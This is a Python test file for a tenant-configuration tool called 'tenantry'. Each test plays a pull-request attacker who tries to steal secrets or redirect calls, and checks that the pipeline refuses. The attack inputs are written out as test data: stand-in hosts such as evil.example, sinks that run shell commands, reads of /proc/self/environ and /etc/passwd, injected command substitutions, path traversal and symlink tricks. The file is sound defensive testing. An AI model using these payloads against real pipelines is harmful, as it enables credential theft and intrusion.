"""What the author of a pull request can do where the pipeline gives --connections: change what the
tenants hold, and nothing else. Each test plays the attacker."""

import json
import os
import sqlite3
import stat
import unittest

from support import CLIENT_ID, DONE, FAILED, EmulatorCase, tenant

SECRETS = {"E2E_CLIENT_SECRET": "emulator-secret", "E2E_LICENSE_KEY": "emulator-license",
           "E2E_OTHER_SECRET": "planted-other-secret"}


class PullRequestCase(EmulatorCase):
    """The folder `branch` is the attacker's; `main/connections.json` is not."""

    def setUp(self):
        super().setUp()
        self.connections = {
            "apiVersion": "tenantry/v1",
            "variables": {"clientSecret": {"env": "E2E_CLIENT_SECRET"},
                          "licenseKey": {"env": "E2E_LICENSE_KEY"}},
            "regions": {"eu": {"clientId": CLIENT_ID, "clientSecret": "${var.clientSecret}",
                               "licenseKey": "${var.licenseKey}", "endpoint": self.emulator.url}}}
        self.workspace.environment.update(SECRETS)
        self.branch = self.workspace.path / "branch"
        self.branch.mkdir()
        self.write_connections()
        self.declared = {"apiVersion": "tenantry/v1", "tenants": {"acme": tenant()}}
        self.declare()

    def write_connections(self):
        self.workspace.write("main/connections.json", json.dumps(self.connections))

    def declare(self, **sections):
        self.workspace.write("branch/tenantry.yaml",
                             json.dumps({**self.declared, **sections}, indent=1))

    def pipeline(self, *command, code=FAILED):
        """What the pipeline runs for a pull request: nothing secret may show, nothing change."""
        ended = self.tenantry("--chdir", "branch", "--connections",
                              str(self.workspace.path / "main/connections.json"), *command,
                              code=code)
        for secret in SECRETS.values():
            self.assertNotIn(secret, ended.text)
        return ended

    def refused(self, words):
        """By validate, and by plan before anything is asked."""
        for command in ("validate", "plan"):
            self.assertIn(words, self.pipeline(command).err)
        self.assertEqual(self.emulator.requests(), [])


class ConnectionsTest(PullRequestCase):
    def test_the_pipeline_itself_works(self):
        self.pipeline("validate", code=DONE)
        self.assertIn("to create", self.pipeline("plan", code=DONE).out)
        self.pipeline("apply", "--auto-approve", code=DONE)
        self.pipeline("plan", "--detailed-exitcode", code=DONE)

    def test_no_endpoint_certificate_or_region_is_taken_from_the_branch(self):
        evil = {"endpoint": "http://127.0.0.1:9", "clientId": "x", "clientSecret": "y"}
        for sections in ({"regions": {"eu": evil}}, {"regions": {"us": evil}},
                         {"regions": {"eu": {"caFile": "evil.pem"}}}, {"regions": {}},
                         {"organization": evil}, {"state": {"path": "mine.state"}},
                         {"state": {"backend": "postgres", "dsn": "host=evil.example"}}):
            with self.subTest(sections=sections):
                self.declare(**sections)
                self.refused("not allowed beside a connections file")

    def test_a_second_file_of_the_branch_says_no_more_than_the_first(self):
        self.workspace.write("branch/zz.yaml", json.dumps({
            "apiVersion": "tenantry/v1", "regions": {"eu": {"endpoint": "http://127.0.0.1:9"}}}))
        self.refused("not allowed beside a connections file")

    def test_no_host_outside_of_the_region_is_called(self):
        for hostname in ("evil.example", "acme.eu.qlikcloud.com.evil.example",
                         "acme.evil.example", "acme.us.qlikcloud.com", "eu.qlikcloud.com",
                         "a.b.eu.qlikcloud.com", "127.0.0.1", "acme.eu.qlikcloud.com:8080",
                         "acme.eu.qlikcloud.com@evil.example", "acme.eu.qlikcloud.com/",
                         "evil.example#.eu.qlikcloud.com", "evil.example\\.eu.qlikcloud.com"):
            with self.subTest(hostname=hostname):
                self.declare(tenants={"acme": {"region": "eu", "hostname": hostname,
                                               "roles": {"r": {"name": "R"}}}})
                ended = self.pipeline("plan")
                self.assertIn("host", ended.text)
                self.assertEqual(self.emulator.requests(), [])

    def test_no_alias_leads_to_another_host(self):
        for alias in ("evil.example/", "evil.example:80#", "a.b", "..", "x@evil", "a/b", "a\nb"):
            with self.subTest(alias=alias):
                self.declare(tenants={"acme": tenant(alias=alias)})
                self.refused("alias")

    def test_a_region_is_one_of_those_that_are_there(self):
        for region in ("us", "eu.evil.example/", "../eu", "eu@evil.example"):
            with self.subTest(region=region):
                self.declare(tenants={"acme": tenant(region=region)})
                self.refused("unknown region")


class VariablesTest(PullRequestCase):
    def test_no_source_of_a_variable_is_taken_from_the_branch(self):
        for variables in ({"stolen": {"env": "E2E_OTHER_SECRET"}},
                          {"stolen": {"env": "E2E_OTHER_SECRET", "sensitive": False}},
                          {"stolen": {"file": "/proc/self/environ", "sensitive": False}},
                          {"stolen": {"file": "/etc/hostname", "sensitive": False}},
                          {"clientSecret": {"sensitive": False}},
                          {"clientSecret": {"env": "E2E_OTHER_SECRET"}}):
            with self.subTest(variables=variables):
                self.declare(variables=variables)
                self.refused("not allowed beside a connections file")

    def test_the_environment_is_read_by_no_placeholder(self):
        for text in ("${env.E2E_OTHER_SECRET}", "${E2E_OTHER_SECRET}", "${var.E2E_OTHER_SECRET}",
                     "${file./etc/hostname}", "${values.E2E_OTHER_SECRET}",
                     "${var.${var.clientSecret}}"):
            with self.subTest(text=text):
                acme = tenant()
                acme["groups"]["analysts"]["description"] = text
                self.declare(tenants={"acme": acme})
                self.assertIn("error:", self.pipeline("validate").err)

    def places(self, text):
        """Tenants with `text` wherever a reader would see it."""
        def with_group(**attributes):
            acme = tenant()
            acme["groups"]["analysts"].update(attributes)
            return acme
        yield "name", tenant(name=text)
        yield "alias", tenant(alias=text)
        yield "group", with_group(name=text)
        yield "description", with_group(description=text)
        yield "role", with_group(assignedRoles=[text])
        yield "origins", tenant(webIntegrations={"p": {"name": "P", "validOrigins": [text]}})
        yield "values", tenant(values={"leak": text}, spaces={"s": {"name": "${values.leak}",
                                                                    "type": "data"}})
        yield "when", tenant(spaces={"s": {"name": "S", "type": "data", "when": text}})
        yield "hostname", {"region": "eu", "hostname": text}
        yield "region", tenant(region=text)
        yield "blueprint", tenant(blueprint=text)
        yield "logo", tenant(brands={"b": {"name": "B", "logo": text}})

    def test_a_sensitive_variable_shows_nowhere(self):
        for text in ("${var.clientSecret}", "x${var.clientSecret}x", "${var.clientSecret:-no}",
                     "${values.none:-${var.clientSecret}}"):
            for place, declared in self.places(text):
                with self.subTest(text=text, place=place):
                    self.declare(tenants={"acme": declared})
                    for command in (("validate",), ("validate", "--json"), ("render", "acme"),
                                    ("render", "acme", "--origin"), ("plan",),
                                    ("plan", "--json"), ("plan", "--no-refresh")):
                        self.pipeline(*command)
                    self.assertEqual(self.emulator.requests(), [])

    def test_a_tenant_of_the_branch_cannot_hand_a_secret_to_somebody_elses_client(self):
        self.declare(tenants={"acme": tenant(oauthClients={"p": {
            "clientName": "${var.licenseKey}", "appType": "web",
            "deliverSecret": {"command": ["sh", "-c", "cat > stolen"]}}})})
        self.refused("not allowed beside a connections file")
        self.assertFalse((self.branch / "stolen").exists())


class FilesTest(PullRequestCase):
    def setUp(self):
        super().setUp()
        self.outside = self.workspace.write("outside/planted.yaml", "password: planted-password\n")

    def read_refused(self, logo, *more):
        self.declare(tenants={"acme": tenant(brands={"b": {"name": "B", "logo": logo}})})
        for command in (("validate",), ("plan",), ("render", "acme")):
            ended = self.pipeline(*command)
            self.assertNotIn("planted-password", ended.text)
            self.assertRegex(ended.err, "tenantry.yaml:[0-9]+:[0-9]+: error: ")
        self.assertEqual(self.emulator.requests(), [])
        return ended.err

    def test_a_file_outside_of_the_folder_cannot_be_named(self):
        for name in ("../outside/planted.yaml", str(self.outside), "/proc/self/environ",
                     "a/../../outside/planted.yaml", "./../outside/planted.yaml",
                     "/etc/passwd", "file:///etc/passwd", "../outside/planted.yaml\0.png"):
            with self.subTest(name=name):
                self.read_refused(name)

    def test_a_link_out_of_the_folder_is_not_followed(self):
        (self.branch / "logo.png").symlink_to(self.outside)
        (self.branch / "environ.png").symlink_to("/proc/self/environ")
        (self.branch / "folder").symlink_to(self.outside.parent)
        (self.branch / "twice.png").symlink_to("logo.png")
        for name in ("logo.png", "environ.png", "folder/planted.yaml", "twice.png"):
            with self.subTest(name=name):
                self.assertIn("file outside of the folder", self.read_refused(name))

    def test_what_is_no_file_is_not_waited_for(self):
        os.mkfifo(self.branch / "fifo.png")
        (self.branch / "loop.png").symlink_to("loop.png")
        (self.branch / "zero.png").symlink_to("/dev/zero")
        (self.branch / "dir.png").mkdir()
        for name in ("fifo.png", "loop.png", "zero.png", "dir.png", "/dev/zero", ""):
            if name:
                with self.subTest(name=name):
                    self.read_refused(name)

    def test_a_configuration_file_that_is_a_link_out_of_the_folder_is_not_read(self):
        linked = self.workspace.write("outside/ours.yaml",
                                      "apiVersion: tenantry/v1\nplanted-password: [x\n")
        link = self.branch / "extra.yaml"
        link.symlink_to(linked)
        for command in ("validate", "plan"):
            ended = self.pipeline(command)
            self.assertNotIn("planted-password", ended.text)
            self.assertIn("extra.yaml: error: file outside of the folder", ended.err)
        link.unlink()
        # What is none of ours is passed over, wherever it is.
        (self.branch / "environ.yaml").symlink_to("/proc/self/environ")
        (self.branch / "passwd.yml").symlink_to("/etc/passwd")
        self.assertNotIn("passwd", self.pipeline("validate", code=DONE).text)
        main = self.branch / "tenantry.yaml"
        main.unlink()
        main.symlink_to(self.workspace.path / "outside/planted.yaml")
        ended = self.pipeline("validate")
        self.assertIn("tenantry.yaml: error: file outside of the folder", ended.err)
        self.assertNotIn("password", ended.err)

    def test_a_configuration_file_may_be_a_link_within_the_folder(self):
        """As a volume of Kubernetes has it."""
        data = self.branch / "..data"
        data.mkdir()
        (self.branch / "tenantry.yaml").rename(data / "tenantry.yaml")
        (self.branch / "tenantry.yaml").symlink_to("..data/tenantry.yaml")
        self.pipeline("validate", code=DONE)

    def test_a_configuration_that_is_no_file_is_not_waited_for(self):
        (self.branch / "tenantry.yaml").unlink()
        os.mkfifo(self.branch / "tenantry.yaml")
        os.mkfifo(self.branch / "more.yaml")
        self.pipeline("validate")

    def test_a_state_in_the_branch_sends_no_credential_anywhere(self):
        """A state is as much the attacker's as the rest of the branch, where it lies there."""
        self.pipeline("apply", "--auto-approve", code=DONE)
        database = sqlite3.connect(self.branch / "tenantry.state")
        host = self.emulator.tenants()["Acme"]["hostnames"][0]
        changed = 0
        for table, in database.execute("select name from sqlite_master where type = 'table'"):
            for column in database.execute(f"pragma table_info({table})").fetchall():
                found = database.execute(
                    f"update {table} set {column[1]} = replace({column[1]}, ?, 'evil.example') "
                    f"where {column[1]} like ?", (host, f"%{host}%"))
                changed += found.rowcount
        database.commit()
        database.close()
        self.assertGreater(changed, 0)
        mark = self.emulator.mark()
        ended = self.pipeline("plan")
        self.assertIn("evil.example is no host of region eu", ended.text)
        self.assertEqual(self.emulator.requests(mark), [])


class SinksTest(PullRequestCase):
    """The sinks are in the connections file; what the branch puts into them is not to be trusted."""

    def declare_client(self, **more):
        client = {"clientName": "Portal", "appType": "web",
                  "allowedGrantTypes": ["client_credentials"]}
        self.declare(tenants={"acme": tenant(oauthClients={"portal": client}, **more)})

    def sink(self, sink):
        self.connections["sinks"] = {"*/oauthClients/*": sink}
        self.write_connections()

    def test_no_sink_of_the_branch_is_used(self):
        client = {"clientName": "Portal", "appType": "web"}
        for sink in ({"command": ["sh", "-c", "touch stolen"]}, {"file": "/tmp/stolen"},
                     {"vault": {"address": "https://evil.example", "path": "x",
                                "token": "${var.clientSecret}"}}):
            for sections in ({"tenants": {"acme": tenant(oauthClients={
                                "p": {**client, "deliverSecret": sink}})}},
                             {"sinks": {"**": sink}}):
                with self.subTest(sink=sink, sections=list(sections)):
                    self.declare(**sections)
                    ended = self.pipeline("validate")
                    self.assertRegex(ended.err, "not allowed beside|unknown key")
        blueprint = {"b": {"oauthClients": {"p": {**client, "deliverSecret": {"command": ["x"]}}}}}
        self.declare(blueprints=blueprint, tenants={"acme": tenant(blueprint="b")})
        self.refused("not allowed beside a connections file")

    def test_a_name_from_the_branch_does_not_lead_a_secret_to_another_file(self):
        for name, sink in (("../../stolen", "secrets/${tenant.name}.json"),
                           ("..", "secrets/${tenant.name}/portal.json"),
                           ("/etc/stolen", "${tenant.name}"),
                           ("a/b", "secrets/${tenant.name}.json")):
            with self.subTest(name=name, sink=sink):
                self.sink({"file": sink})
                self.declare_client(name=name)
                self.refused("more than one part of a path")
        self.sink({"file": "secrets/${tenant.key}/portal.json"})
        self.declare_client()
        declared = json.loads((self.branch / "tenantry.yaml").read_text())
        declared["tenants"] = {"..": declared["tenants"]["acme"]}
        self.workspace.write("branch/tenantry.yaml", json.dumps(declared))
        self.refused('".." cannot be the key of a tenant')
        self.sink({"vault": {"address": "https://vault.example", "token": "${var.clientSecret}",
                             "path": "tenants/${tenant.name}/portal"}})
        self.declare_client(name="../../admin")
        self.refused("more than one part of a path")

    def test_a_link_of_the_branch_does_not_lead_a_secret_out_of_the_folder(self):
        self.sink({"file": "secrets/${tenant.key}.json"})
        self.declare_client()
        elsewhere = self.workspace.path / "elsewhere"
        elsewhere.mkdir()
        (self.branch / "secrets").symlink_to(elsewhere)
        refused = self.pipeline("plan")
        self.assertIn("leads out of", refused.text)
        self.pipeline("apply", "--auto-approve")
        self.assertEqual(list(elsewhere.iterdir()), [])
        self.assertEqual(self.emulator.changing_calls(), [])

    def test_a_link_in_the_place_of_a_secrets_file_is_replaced_and_not_followed(self):
        self.sink({"file": "secrets/${tenant.key}.json"})
        self.declare_client()
        victim = self.workspace.write("outside/victim", "untouched\n")
        (self.branch / "secrets").mkdir()
        link = self.branch / "secrets" / "acme.json"
        link.symlink_to(victim)
        self.pipeline("apply", "--auto-approve", code=DONE)
        self.assertEqual(victim.read_text(), "untouched\n")
        self.assertFalse(link.is_symlink())
        self.assertEqual(stat.S_IMODE(link.stat().st_mode), 0o600)

    def test_a_name_from_the_branch_is_one_argument_of_a_command_and_no_option(self):
        main = self.workspace.path / "main"
        script = self.workspace.write("main/deliver.sh",
                                      '#!/bin/sh\nprintf "%s\\n" "$#" "$@" > "$0.got"; cat >&2\n')
        script.chmod(0o755)
        self.sink({"command": [str(script), "--to=${tenant.name}"]})
        name = "a; touch stolen $(touch stolen) `touch stolen` --force"
        self.declare_client(name=name)
        self.pipeline("apply", "--auto-approve", code=DONE)
        self.assertEqual((main / "deliver.sh.got").read_text(), f"1\n--to={name}\n")
        self.assertEqual(list(self.workspace.path.rglob("stolen")), [])
        self.emulator.reset()
        for state in self.branch.glob("tenantry.state*"):
            state.unlink()
        self.sink({"command": [str(script), "${tenant.name}"]})
        self.declare_client(name="--config=/tmp/evil")
        self.refused("would be an option")


class PlanOnlyReadsTest(PullRequestCase):
    def test_a_plan_only_reads_and_only_where_it_was_sent(self):
        self.connections["organization"] = {"clientId": CLIENT_ID, "endpoint": self.emulator.url,
                                            "clientSecret": "${var.clientSecret}"}
        self.write_connections()
        self.pipeline("apply", "--auto-approve", code=DONE)
        mark = self.emulator.mark()
        declared = tenant(name="Other", spaces={"s": {"name": "S", "type": "data"}})
        declared["groups"] = {}
        self.declare(tenants={"acme": declared, "globex": tenant("globex")})
        for command in (("plan",), ("plan", "--json"), ("plan", "--destroy"),
                        ("drift",), ("why", "acme/spaces/s")):
            ended = self.workspace.run(
                "--chdir", "branch", "--connections",
                str(self.workspace.path / "main/connections.json"), *command)
            self.assertIn(ended.code, (0, 1, 2), str(ended))
        requests = self.emulator.requests(mark)
        self.assertTrue(requests)
        for request in requests:
            self.assertTrue(request["method"] == "GET" or request["path"] == "/oauth/token",
                            request)
            self.assertRegex(request["host"], r"^([a-z0-9-]+\.eu|console)\.qlikcloud\.com$")


if __name__ == "__main__":
    unittest.main()
